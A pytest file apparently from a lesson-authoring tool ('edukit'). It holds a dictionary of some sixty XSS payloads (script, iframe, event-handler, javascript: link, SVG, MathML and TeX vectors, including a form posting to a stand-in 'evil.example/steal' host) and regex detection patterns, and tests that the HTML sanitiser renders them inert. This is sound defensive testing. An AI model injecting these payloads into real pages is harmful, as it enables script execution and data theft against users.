"""Hostile raw HTML in a lesson: nothing that can run, navigate or load survives sanitising.

Each item is rendered through the whole pipeline (Markdown, then nh3) in every view and the
output is checked; a harmless item alongside is the positive control that HTML is not simply
thrown away. tests/gui/test_hostile_view.py loads some of these in a real locked page.
"""
from __future__ import annotations

import html as html_lib
import re

import pytest

from edukit.core.library import Library
from edukit.core.render import VIEWS, RenderContext, render
from edukit.core.sanitize import sanitize

HOSTILE = {
    "script": "<script>document.title='pwned'</script>",
    "script uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</script>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style url": "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "inline style url": '<div style="background-image:url(https://evil.example/i.png)">x</div>',
    "onerror": '<img src="x.png" onerror="alert(1)">',
    "onload": '<body onload="alert(1)">',
    "onclick": '<p onclick="alert(1)">click</p>',
    "onmouseover in markdown attr": "Text\n{: onmouseover=\"alert(1)\" }",
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript href spaced": '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    "javascript entity": '<a href="jav&#x61;script:alert(1)">x</a>',
    "javascript markdown link": "[x](javascript:alert(1))",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data html image": '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "svg script": '<svg><script>alert(1)</script><circle r="5"/></svg>',
    "svg onload": '<svg onload="alert(1)"></svg>',
    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "math xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "remote image": '<img src="https://evil.example/track.png">',
    "remote image markdown": "![t](https://evil.example/track.png)",
    "protocol-relative image": '<img src="//evil.example/track.png">',
    "srcset": '<img src="ok.png" srcset="https://evil.example/big.png 2x">',
    "video poster": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4">',
    "audio": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "picture source": '<picture><source srcset="https://evil.example/a.png"></picture>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><img src=https://evil.example/n.png></noscript>",
    "comment trick": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "input autofocus": '<input autofocus onfocus="alert(1)">',
    "details ontoggle": '<details open ontoggle="alert(1)">x</details>',
    "fenced div attribute": '::: {.activity onclick="alert(1)"}\nx\n:::',
    "fenced div id breakout": '::: {#a"onclick="alert(1) .activity}\nx\n:::',
    "xml namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "object in md_in_html": '<div markdown="1"><object data="x.swf"></object></div>',
    "object in a plain div": '<div>\n\n<object data="x.swf"></object>\n\n</div>',
    # MathML is kept (edukit.core.markdown.maths), so what it must never carry is tried here
    "math href": '<math><mi href="javascript:alert(1)">x</mi></math>',
    "math href https": '<math><mrow href="https://evil.example/">x</mrow></math>',
    "math annotation-xml": ('<math><semantics><mi>x</mi><annotation-xml encoding="text/html">'
                            '<img src=x onerror=alert(1)></annotation-xml></semantics></math>'),
    "math mglyph": '<math><mglyph src="https://evil.example/g.png"/></math>',
    "math maction": '<math><maction actiontype="statusline"><mi>x</mi></maction></math>',
    "math style": '<math><mi style="background:url(https://evil.example/m.png)">x</mi></math>',
    "math background url": ('<math><mstyle mathbackground="url(https://evil.example/b.png)">'
                            "<mi>x</mi></mstyle></math>"),
    "math mtext image": '<math><mtext><img src="https://evil.example/t.png"></mtext></math>',
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "tex href": "$\\href{javascript:alert(1)}{x}$",
    "tex style": "$\\style{background:url(https://evil.example/s.png)}{x}$",
    "tex text tag": "$\\text{<img src=x onerror=alert(1)>}$",
}

FORBIDDEN_TAGS = re.compile(
    r"<\s*/?\s*(?:\w+:)?(script|iframe|object|embed|form|meta|base|link|style|svg|video|audio|"
    r"source|picture|template|noscript|input|button|frame|frameset|applet|annotation-xml|maction|"
    r"mglyph)\b", re.IGNORECASE)
EVENT_ATTR = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)
RESOURCE_ATTR = re.compile(r"""\s(src|srcset|poster|data|action|formaction|background|xlink:href)\s*=\s*["']?([^"'\s>]*)""",
                           re.IGNORECASE)
HREF = re.compile(r"""\shref\s*=\s*["']?\s*([^"'\s>]*)""", re.IGNORECASE)


TAG = re.compile(r"<[A-Za-z!?/][^>]*>")


def assert_inert(html: str) -> None:
    """No tag that runs or loads, no event attribute, no resource outside edukit:/data:image.
    Only real tags are looked at: escaped text such as '&lt;script&gt;' is harmless."""
    tags = " ".join(TAG.findall(html))
    assert not FORBIDDEN_TAGS.search(tags), html
    assert not EVENT_ATTR.search(tags), html
    assert "style=" not in tags.replace('style="text-align', "")
    assert "url(" not in tags.lower() and "xlink:" not in tags.lower(), html
    for tag in TAG.findall(html):
        assert not HREF.search(tag) or re.match(r"<a\s", tag, re.IGNORECASE), html  # links only
    for attr, value in RESOURCE_ATTR.findall(tags):
        assert attr.lower() == "src", html
        assert not re.match(r"^[a-z][a-z0-9+.-]*:", value, re.IGNORECASE) or \
            value.startswith(("edukit:", "data:image/")), html
        assert not value.startswith("//"), html
    for value in HREF.findall(tags):
        assert not html_lib.unescape(value).lower().startswith(("javascript:", "vbscript:", "data:")), html


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_hostile_html_does_not_survive_any_view(tmp_path, case):
    (tmp_path / "hostile.md").write_text(
        f"---\ntitle: Hostile\n---\n# Hostile\n\n<p><b>kept</b></p>\n\n{HOSTILE[case]}\n\n"
        "## Slide\n\n::: notes\nnotes\n:::\n")
    module = Library.default(extra=[tmp_path]).get("hostile")
    for view in VIEWS:
        html = render(module, view, RenderContext()).html
        assert_inert(html)
        if view not in ("handout", "worksheets"):  # these two print only chosen blocks
            assert "<b>kept</b>" in html  # positive control: harmless HTML stays


def test_the_checker_itself_catches_each_item_unsanitised():
    """Positive control for assert_inert: every raw item fails it before sanitising."""
    for case, raw in HOSTILE.items():
        if raw.startswith(("[", "![", "Text\n", ":::", "<!--", "<![CDATA", "$")):
            continue  # Markdown syntax: only dangerous once converted
        with pytest.raises(AssertionError):
            assert_inert(raw)
            pytest.fail(f"the checker missed {case!r}")


def test_sanitize_keeps_the_lesson_markup_it_needs():
    html = ('<div class="block activity" data-block="activity" data-minutes="10"><p>x</p></div>'
            '<img src="images/a.png" alt="A"><img src="data:image/png;base64,iVBORw0KGgo=" alt="d">'
            '<a href="https://www.ceop.police.uk/">CEOP</a><a href="#top">top</a>'
            '<table><tr><td style="text-align: center">c</td></tr></table>')
    out = sanitize(html)
    for kept in ('data-minutes="10"', 'src="images/a.png"', 'src="data:image/png;base64,',
                 'href="https://www.ceop.police.uk/"', 'href="#top"', 'style="text-align: center"'):
        assert kept in out


def is_settled(clean, raw: str) -> bool:
    """Whether cleaning's output is clean: a second pass changes nothing. A cleaner that is not
    (it strips one layer and leaves markup a later parse re-forms) is how mutation XSS starts."""
    once = clean(raw)
    return clean(once) == once


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_sanitized_html_is_inert_and_settled(case):
    assert_inert(sanitize(HOSTILE[case]))
    assert is_settled(sanitize, HOSTILE[case])


def test_a_one_layer_cleaner_is_not_settled_positive_control():
    """The check above can fail: a cleaner that removes `<script>` once leaves one behind."""
    def strip_once(html: str) -> str:
        return html.replace("<script>", "", 1)
    assert not is_settled(strip_once, "<scr<script>ipt>alert(1)</script>")
    assert is_settled(sanitize, "<scr<script>ipt>alert(1)</script>")
